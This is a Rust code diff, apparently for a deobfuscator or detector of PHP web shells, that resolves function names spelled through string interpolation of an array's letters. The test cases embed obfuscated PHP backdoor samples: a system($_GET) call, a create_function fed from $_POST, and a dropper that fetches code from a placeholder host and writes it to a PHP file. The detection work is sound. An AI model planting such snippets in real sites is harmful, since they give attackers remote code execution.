@@ -48,7 +48,7 @@ pub enum Tok<'a> {
     Str(Cow<'a, [u8]>),
     /// A double-quoted or heredoc string with variables in it: value unknown, but the
     /// variables it names are kept (`"{$_GET['x']}"` is request data).
-    Interp(Vec<&'a [u8]>),
+    Interp(Vec<&'a [u8]>, &'a [u8]),
     /// An integer literal.
     Num(i64),
     /// `` `…` ``: a shell command.
@@ -249,7 +249,7 @@ fn double_quoted(body: &[u8]) -> Tok<'_> {
             Tok::Str(Cow::Owned(decode::unescape_double(body)))
         }
     } else {
-        Tok::Interp(vars)
+        Tok::Interp(vars, body)
     }
 }
 
@@ -1312,12 +1312,68 @@ impl<'t, 'a> Resolver<'t, 'a> {
         }
     }
 
+    /// The value of a double-quoted string whose variables are all known, in the simple
+    /// syntax only (`$a`, `$a[0]`, `$a[key]`); `None` for anything else (`{$…}`, `->`).
+    fn interpolate(&self, body: &[u8]) -> Option<Val> {
+        let mut out = Vec::new();
+        let mut lit = Vec::new();
+        let mut k = 0;
+        let mut any_index = false;
+        while let Some(&b) = body.get(k) {
+            if b == b'\\' {
+                lit.extend_from_slice(body.get(k..k + 2)?);
+                k += 2;
+                continue;
+            }
+            if b == b'{' && body.get(k + 1) == Some(&b'$') {
+                return None;
+            }
+            if b != b'$' || !body.get(k + 1).copied().is_some_and(is_ident_start) {
+                lit.push(b);
+                k += 1;
+                continue;
+            }
+            out.extend_from_slice(&decode::unescape_double(&lit));
+            lit.clear();
+            let end = scan_while(body, k + 1, is_ident);
+            let mut val = self.lookup(body.get(k + 1..end)?);
+            k = end;
+            if body.get(k) == Some(&b'[') {
+                let close = k + 1 + body.get(k + 1..)?.iter().position(|c| *c == b']')?;
+                let key = body.get(k + 1..close)?;
+                let key = match std::str::from_utf8(key).ok()?.parse::<i64>() {
+                    Ok(n) => Val::Num(n),
+                    Err(_) if key.iter().all(|c| is_ident(*c)) => Val::Str(key.to_vec()),
+                    Err(_) => return None,
+                };
+                val = val.index(&key);
+                any_index = true;
+                k = close + 1;
+            } else if body.get(k..k + 2) == Some(b"->") {
+                return None;
+            }
+            out.extend_from_slice(&val.as_bytes()?);
+            if out.len() > MAX_VALUE {
+                return None;
+            }
+        }
+        out.extend_from_slice(&decode::unescape_double(&lit));
+        any_index.then_some(Val::Str(out))
+    }
+
     fn primary(&mut self, i: usize, depth: usize) -> Ev {
         let lit = |val: Val| Ev::new(val, i + 1, false);
         match self.tok(i) {
             Some(Tok::Str(s)) => lit(Val::Str(s.to_vec())),
             Some(Tok::Num(n)) => lit(Val::Num(*n)),
-            Some(Tok::Interp(vars)) => {
+            Some(Tok::Interp(vars, body)) => {
+                if let Some(v) = self.interpolate(body) {
+                    // `"$t[0]$t[3]…"`: a name spelled from a table's letters.
+                    return Ev {
+                        disguise: true,
+                        ..Ev::new(v, i + 1, true)
+                    };
+                }
                 let taint = vars.iter().filter_map(|v| self.lookup(v).taint()).max();
                 Ev::new(
                     taint.map_or(Val::Unknown, Val::Tainted),
@@ -1880,7 +1936,7 @@ impl Writer {
             }
             Tok::Ident(n) => self.push(n),
             Tok::Str(s) => self.literal(s),
-            Tok::Interp(vars) => {
+            Tok::Interp(vars, _) => {
                 self.push(b"\"");
                 for v in vars {
                     if tainted(v) {
@@ -2326,7 +2382,7 @@ impl<'t, 'a> Resolver<'t, 'a> {
                     | Tok::Str(_)
                     | Tok::Num(_)
                     | Tok::Ident(_)
-                    | Tok::Interp(_)
+                    | Tok::Interp(..)
                     | Tok::Punct(b"(" | b"$" | b"[" | b"@")
             )
         )
@@ -2568,6 +2624,9 @@ mod tests {
         // a property set from the request, read in a destructor
         let t = text("<?php class O { function __destruct() { $f = 'create_' . 'function'; @$f = $f('', $this->c); return @$f(); } } $o = new O(); @$o->c = &$_POST['t'];");
         assert!(t.contains("create_function('',$_POST['request'])"), "{t}");
+        // a name spelled by interpolating a table's letters
+        let t = text("<?php $s = array('s', 'y', 't', 'e', 'm'); $f = \"$s[0]$s[1]$s[0]$s[2]$s[3]$s[4]\"; $f($_GET['c']);");
+        assert!(t.contains("system($_GET"), "{t}");
         // a dropper writing through a file handle names the file it writes
         let t = text("<?php $c = file_get_contents('http://x.example.invalid/c.txt'); $fo = fopen('cache.php', 'w+'); fwrite($fo, $c); fclose($fo);");
         assert!(t.contains("fwrite('cache.php',__REMOTE__)"), "{t}");
